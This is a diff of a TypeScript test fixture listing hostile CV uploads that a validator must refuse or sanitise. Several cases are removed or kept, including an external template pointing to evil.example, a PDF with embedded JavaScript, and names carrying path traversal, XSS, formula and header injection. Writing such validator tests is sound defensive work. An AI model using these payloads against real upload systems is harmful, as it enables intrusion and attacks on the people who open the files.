@@ -1,6 +1,6 @@
 /** Files that somebody sends to do harm, and how a form brings them: for the table in hostile-uploads.test.ts. */
 import { request } from "node:http";
-import { contentTypes, makeDoc, makeDocx, makePdf, makeZip } from "../unit/uploads/make-files";
+import { contentTypes, makeDocx, makePdf } from "../unit/uploads/make-files";
 
 export const BOUNDARY = "----hostile";
 
@@ -14,31 +14,12 @@ export interface Part {
 }
 
 export const PDF = makePdf();
-const HTML = "<html><body><script>alert(1)</script></body></html>";
 const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
-const withScript = makePdf({
-  inside: "2 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>\nendobj\n",
-});
-const withTemplate = makeDocx({
-  more: [
-    {
-      name: "word/_rels/settings.xml.rels",
-      content:
-        '<Relationships><Relationship Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
-    },
-  ],
-});
 const docm = makeDocx({
   types: contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml"),
   more: [{ name: "word/vbaProject.bin", content: "Sub AutoOpen()" }],
 });
 const DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
-/** A Word document with a password: a compound file around the encrypted one. */
-const withPassword = makeDoc([
-  { name: "EncryptionInfo", type: 2 },
-  { name: "EncryptedPackage", type: 2 },
-]);
-
 /** A file for the field `cv`. @param more behind the name, as it is */
 export const cv = (
   name: string,
@@ -64,25 +45,17 @@ export type Refusal =
 
 /**
  * Each is refused with its sentence, beside its field: one of each sentence and of each way to be read. All names are in
- * tests/unit/uploads/file-name.test.ts, all contents in file-content.test.ts.
+ * tests/unit/uploads/file-name.test.ts, all contents in file-content.test.ts, and all forms in read-uploads.test.ts.
  */
 export const REFUSED: readonly [what: string, sent: Part, sentence: Refusal][] = [
   // Names.
-  ["a runnable extension before the last one", cv("cv.php.pdf"), "file_name"],
-  ["a runnable extension behind the right one", cv("cv.pdf.exe"), "file_type"],
   ["a null byte as it is", cv("cv.php\0.pdf"), "file_name"],
-  ["letters read from right to left before the right extension", cv("cv\u202eexe.pdf"), "file_name"],
-  ["a name of 300 letters", cv(`${"a".repeat(300)}.pdf`), "file_name"],
-  ["a dot that only looks like one", cv("cv\u2024pdf"), "file_type"],
   ["a name in UTF-8 alone", { ...cv(""), disposition: "name=\"cv\"; filename*=UTF-8''cv.exe" }, "file_type"],
   // Types.
-  ["a PDF that is said to be a page", cv("cv.pdf", PDF, "text/html"), "file_type"],
   ["no type, which means that it is a text", cv("cv.pdf", PDF, null), "file_type"],
   // Contents.
   ["nothing in it", cv("cv.pdf", ""), "file_empty"],
   ["5 MB and a byte", cv("cv.pdf", makePdf({ size: 5_242_881 })), "file_to_heavy"],
-  ["20 MB", cv("cv.pdf", makePdf({ size: 20_000_000 })), "file_to_heavy"],
-  ["a page called PDF", cv("cv.pdf", HTML), "file_type"],
   ["a document with macros called .docx", docx(docm), "file_macros"],
   [
     "a bomb: one part of 200 MB",
@@ -94,25 +67,11 @@ export const REFUSED: readonly [what: string, sent: Part, sentence: Refusal][] =
     docx(makeDocx({ more: [{ name: "word/secret.xml", content: "x", encrypted: true }] })),
     "file_locked",
   ],
-  ["a document with a password called .doc", cv("cv.doc", withPassword, "application/msword"), "file_type"],
 ];
 
 /** Each is taken as it is, under the name that the teams see, and is only ever handed out to be saved. */
 export const TAKEN: readonly [what: string, sent: Part, name: string][] = [
-  ["a PDF with JavaScript", cv("cv.pdf", withScript), "cv.pdf"],
-  ["a document whose template lies elsewhere", docx(withTemplate), "cv.docx"],
-  [
-    "a document with an archive in it",
-    docx(
-      makeDocx({ more: [{ name: "word/embeddings/1.xlsx", content: makeZip([{ name: "a", content: zeros(1) }]) }] }),
-    ),
-    "cv.docx",
-  ],
   ["5 MB to the byte", cv("cv.pdf", makePdf({ size: 5_242_880 })), "cv.pdf"],
-  ["a path in the name", cv("../../../etc/cron.d/cv.pdf"), "cv.pdf"],
-  ["a path of Windows in the name", cv("C:\\\\Users\\\\x\\\\cv.pdf"), "cv.pdf"],
-  ["markup in the name", cv("<img src=x onerror=alert(1)>.pdf"), "-img src=x onerror=alert(1)-.pdf"],
-  ["a formula in the name", cv("=cmd|calc!A1.pdf"), "=cmd-calc!A1.pdf"],
   ["a header in the name", cv("cv%0d%0aX-Injected: 1.pdf".replace("%0d%0a", " ")), "cv X-Injected- 1.pdf"],
   [
     "two names, of which only the first one counts",
